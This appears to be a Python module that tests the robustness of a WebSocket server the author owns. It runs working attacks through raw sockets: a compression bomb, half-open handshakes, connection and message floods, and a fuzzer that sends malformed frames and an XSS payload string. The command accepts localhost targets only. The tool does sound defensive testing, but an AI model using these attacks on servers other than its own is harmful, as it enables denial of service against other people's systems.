"""What hostile clients do to a WebSocket server, with nothing but sockets: each attack is one short function.

    python -m apps.door.attacks bomb ws://127.0.0.1:8000/ws

Each tells whether it got in or was refused, and what it cost the server. Attack only servers of your own: the
command takes no address but this machine's.
"""

from __future__ import annotations

import argparse
import contextlib
import inspect
import itertools
import random
import select
import socket
import struct
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import psutil

from apps.options import between

CONTINUATION, TEXT, BINARY, CLOSE, PING = 0, 1, 2, 8, 9
TIME_OUT = 2.0
"""In seconds: how long a server may take nothing from us, or give us no answer, until we give up."""
DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate"


@dataclass(frozen=True)
class Outcome:
    """How an attack ended: whether the server let it happen, how, and by how many MiB the server grew."""

    got_in: bool
    how: str
    cost: float | None = None

    def __repr__(self) -> str:
        cost = "" if self.cost is None else f"; cost: {self.cost:.0f} MiB"
        return f"{'got in' if self.got_in else 'was refused'}: {self.how}{cost}"


def come_in(url: str, *headers: str) -> Outcome:
    """Open a WebSocket, with headers such as `"Cookie: session=7"`, and read the first message."""
    with enter(url, *headers) as (sock, status):
        if status != 101:
            return Outcome(False, f"HTTP {status}")
        return outcome(sock, "reads")


def bomb(url: str, megabytes: int = 100) -> Outcome:
    """Send one message that is a thousand times as long as it looks."""
    payload = deflated_letters(megabytes * 2**20)
    with Memory(url) as memory, enter(url, DEFLATE) as (sock, _):
        with contextlib.suppress(OSError):
            sock.sendall(frame(TEXT, payload, deflated=True))
        sock.settimeout(30)
        done = outcome(sock, f"{len(payload) / 1000:.0f} kB became {megabytes} MiB, and the answer is")
    return Outcome(done.got_in, done.how, memory.grown)


def half_open(url: str, count: int = 100, seconds: float = 2.0) -> Outcome:
    """Begin handshakes and don't finish them; see how many the server still keeps open after some seconds."""
    held = [dial(url, handshake(url)[:-4]) for _ in range(count)]
    time.sleep(seconds)
    open_still = count - len(select.select(held, [], [], 0)[0])  # there is an end to be read in the others
    for sock in held:
        sock.close()
    return Outcome(open_still > 0, f"{open_still or count} of {count} handshakes left open for {seconds:g} s")


def crowd(url: str, count: int = 100) -> Outcome:
    """Open many connections at once from one address; see how many are refused."""
    with contextlib.ExitStack() as stack:
        answers = Counter(stack.enter_context(enter(url))[1] for _ in range(count))
    refused = "".join(f"; HTTP {status}: {times}" for status, times in answers.items() if status != 101)
    return Outcome(not refused, f"{count - answers[101] or count} of {count} connections{refused}")


def flood(url: str, count: int = 1000, text: str = "spam") -> Outcome:
    """Send a great many messages at once; see how many the server answers."""
    heard, code = 0, ""
    with enter(url) as (sock, _):
        with contextlib.suppress(OSError):
            sock.sendall(frame(TEXT, text.encode()) * count)
        for opcode, said in replies(sock):
            heard += opcode == TEXT and text in said
            code = f"; closed: {said}" if opcode == CLOSE else ""
            if heard == count:
                break
    return Outcome(heard == count, f"{count - heard or count:,} of {count:,} messages{code}")


def keep_silent(url: str, seconds: float = 2.0) -> Outcome:
    """Open a WebSocket and say nothing."""
    with enter(url) as (sock, _):
        sock.settimeout(seconds)
        codes = [code for opcode, code in replies(sock) if opcode == CLOSE]
    return Outcome(not codes, codes[0] if codes else f"still there after {seconds:g} s")


def fuzz(url: str, count: int = 200, seed: int = 1) -> Outcome:
    """Send hostile inputs, a connection each, which anybody with this seed can send again."""
    inputs = hostile_inputs(url, count, seed)
    with Memory(url) as memory:
        while batch := list(itertools.islice(inputs, 20)):
            with contextlib.ExitStack() as stack:
                socks = [stack.enter_context(dial(url)) for _ in batch]
                for sock, pieces in zip(socks, batch, strict=True):
                    with contextlib.suppress(OSError):  # it has had enough already
                        for piece in pieces:
                            sock.sendall(piece)
                        sock.shutdown(socket.SHUT_WR)
                for sock in socks:
                    with contextlib.suppress(ConnectionError):
                        while sock.recv(65_536):
                            pass
    return Outcome(False, f"all {count:,} hostile inputs", memory.grown)


def hostile_inputs(url: str, count: int, seed: int) -> Iterator[list[bytes]]:
    """Give what is sent on each connection, in pieces: noise, broken requests, broken frames."""
    chance, good = random.Random(seed), handshake(url)
    for number in range(count):
        message = frame(TEXT, chance.choice(HOSTILE_TEXTS))
        noise = chance.randbytes(chance.randrange(1, 300))
        broken = [
            message,
            changed(message, chance),
            message[: chance.randrange(len(message))],  # cut short
            noise,
            b"\x81\x04oops",  # not masked
            b"\x81\xff" + noise,  # a length beyond all limits
            frame(TEXT, b"\xff\xfe" + noise),  # not UTF-8
            frame(chance.randrange(16), noise, last=chance.random() < 0.5),
            frame(CLOSE, noise[:5]),
            frame(TEXT, b"x", last=False) + frame(CONTINUATION, last=False) * 50,
            frame(TEXT, deflated_letters(10_000), deflated=True),
        ]
        whole = chance.choice([noise, changed(good, chance), *(good + each for each in broken)])
        yield [bytes([byte]) for byte in whole[:500]] if number % 50 == 1 else [whole]


HOSTILE_TEXTS = [
    *(b"", b"[" * 5000, b'{"a":' * 1000, b"NaN", b"1e999", b"9" * 5000, b'"\\ud800"', b"null", b"[]"),
    *(b'{"type": ["say"], "room": 1}', b'{"type": "enter", "token": "' + b"A" * 600 + b'"}'),
    *(b'{"type": "say", "room": "lobby", "text": "<script>alert(1)</script>"}', b"\x00\x1b[2J\r\n"),
]


def changed(data: bytes, chance: random.Random) -> bytes:
    """Return the bytes with some of them changed, taken out or doubled."""
    some = bytearray(data)
    for _ in range(chance.randrange(1, 6)):
        at = chance.randrange(len(some))
        some[at : at + chance.randrange(2)] = chance.randbytes(chance.randrange(3))
    return bytes(some)


def handshake(url: str, *headers: str) -> bytes:
    """Return the request for a WebSocket, with more headers if you like."""
    parts = urlsplit(url)
    target = (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
    lines = [f"GET {target} HTTP/1.1", f"Host: {parts.netloc}", "Upgrade: websocket", "Connection: Upgrade"]
    lines += ["Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13", *headers, "", ""]
    return "\r\n".join(lines).encode()


def frame(opcode: int, payload: bytes = b"", *, last: bool = True, deflated: bool = False) -> bytes:
    """Return a frame as a client sends it, masked with zeros."""
    head, size = bytes([opcode | last << 7 | deflated << 6]), len(payload)
    if size < 126:
        return head + bytes([0x80 | size]) + bytes(4) + payload
    length = b"\xfe" + struct.pack("!H", size) if size < 2**16 else b"\xff" + struct.pack("!Q", size)
    return head + length + bytes(4) + payload


def deflated_letters(count: int) -> bytes:
    """Return a string of so many letters, deflated (RFC 7692 §7.2.1)."""
    deflate = zlib.compressobj(9, wbits=-15)
    parts = [deflate.compress(b"x" * min(2**20, count - done)) for done in range(0, count, 2**20)]
    return (b"".join(parts) + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4]


def dial(url: str, request: bytes = b"") -> socket.socket:
    """Connect, and send the beginning of something."""
    parts = urlsplit(url)
    sock = socket.create_connection((parts.hostname or "127.0.0.1", parts.port or 80), timeout=TIME_OUT)
    sock.sendall(request)
    return sock


@contextlib.contextmanager
def enter(url: str, *headers: str) -> Iterator[tuple[socket.socket, int]]:
    """Open a WebSocket, in a `with` block: the socket, and the status of the answer, 0 without one."""
    with dial(url, handshake(url, *headers)) as sock:
        answer = b""
        with contextlib.suppress(OSError):
            while not answer.endswith(b"\r\n\r\n") and (byte := sock.recv(1)):  # a frame may come right after
                answer += byte
        yield sock, int(answer[9:12]) if answer[9:12].isdigit() else 0


def replies(sock: socket.socket) -> Iterator[tuple[int, str]]:
    """Give the opcode and the text of each frame that comes, until there is none any more."""
    with contextlib.suppress(OSError), sock.makefile("rb") as stream:
        while len(head := stream.read(2)) == 2:
            size = head[1] & 127
            if size > 125:
                size = int.from_bytes(stream.read(2 if size == 126 else 8), "big")
            payload, opcode = stream.read(size), head[0] & 15
            if head[0] & 64:
                payload = zlib.decompressobj(-15).decompress(payload + b"\0\0\xff\xff")
            code = f"{int.from_bytes(payload[:2], 'big')} " if opcode == CLOSE and payload else ""
            yield opcode, (code + payload[2 if code else 0 :].decode("utf-8", "replace")).strip()


def outcome(sock: socket.socket, got: str) -> Outcome:
    """Return what the first message says, or how the connection was closed instead."""
    for opcode, said in replies(sock):
        if opcode == CLOSE:
            return Outcome(False, f"closed: {said}")
        if opcode in (TEXT, BINARY):
            return Outcome(True, f"{got} {said[:120]!r}")
    return Outcome(False, "no message came")


class Memory:
    """Looks, in a `with` block and on a thread of its own, how much the process of a server grows, in MiB."""

    grown: float | None = None  # where the process isn't known

    def __init__(self, url: str) -> None:
        self._process = listening_process(urlsplit(url).port or 80)
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._look, daemon=True)

    def __enter__(self) -> Memory:
        if self._process:
            self._before = self._process.memory_info().rss
            self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        if self._process:
            self._done.set()
            self._thread.join()

    def _look(self) -> None:
        with contextlib.suppress(psutil.NoSuchProcess):
            while self._process and not self._done.wait(0.005):
                now = self._process.memory_info().rss
                self.grown = max(self.grown or 0.0, (now - self._before) / 2**20)


def listening_process(port: int) -> psutil.Process | None:
    """Return the process that listens on a port of this machine; None if it isn't there, or isn't yours."""

    def listens(connection: Any) -> bool:
        return bool(connection.status == psutil.CONN_LISTEN and connection.laddr.port == port)

    try:
        pids = [each.pid for each in psutil.net_connections("tcp") if listens(each) and each.pid]
        return psutil.Process(pids[0]) if pids else None
    except psutil.AccessDenied:  # macOS shows everybody only what their own processes do, one by one
        for process in psutil.process_iter():
            with contextlib.suppress(psutil.Error):
                if any(map(listens, process.net_connections("tcp"))):
                    return process
        return None


ATTACKS: dict[str, Callable[..., Outcome]] = {
    each.__name__: each for each in (come_in, bomb, half_open, crowd, flood, keep_silent, fuzz)
}
NUMBERS: dict[str, Callable[[str], Any]] = {
    "megabytes": between(1, 1000),
    "count": between(1, 1_000_000),
    "seconds": between(0.1, 600.0),
    "seed": int,
}


def own_server(text: str) -> str:
    """Return the address of a server on this machine; attacking other people's may be a crime."""
    with contextlib.suppress(ValueError):  # the port is no number
        parts = urlsplit(text)
        is_here = parts.hostname in ("127.0.0.1", "localhost") and parts.port != 0
        if is_here and parts.scheme in ("ws", "http"):
            return text
    raise argparse.ArgumentTypeError(
        f"{text!r} isn't an address of this machine, without TLS, such as ws://127.0.0.1:8000/ws"
    )


def main() -> None:
    """Attack a server from a terminal, with an option for each argument that the attack takes."""
    parser = argparse.ArgumentParser(
        "python -m apps.door.attacks", description="Attack a WebSocket server of your own, on this machine."
    )
    commands = parser.add_subparsers(dest="attack", required=True)
    for name, attack in ATTACKS.items():
        command = commands.add_parser(name, help=attack.__doc__, description=attack.__doc__)
        command.add_argument("url", type=own_server, help="such as ws://127.0.0.1:8000/ws")
        for each in list(inspect.signature(attack).parameters.values())[1:]:
            if each.kind is each.VAR_POSITIONAL:
                command.add_argument(each.name, nargs="*", help='such as "Cookie: session=7"')
            else:
                kind = NUMBERS.get(each.name, str)
                command.add_argument(f"--{each.name}", type=kind, default=each.default, help="(%(default)s)")
    given = vars(parser.parse_args())
    attack, url, headers = ATTACKS[given.pop("attack")], given.pop("url"), given.pop("headers", [])
    try:
        print(attack(url, *headers, **given))
    except OSError as error:  # nobody listens there
        parser.exit(1, f"can't attack {url}: {error}\n")


if __name__ == "__main__":
    main()
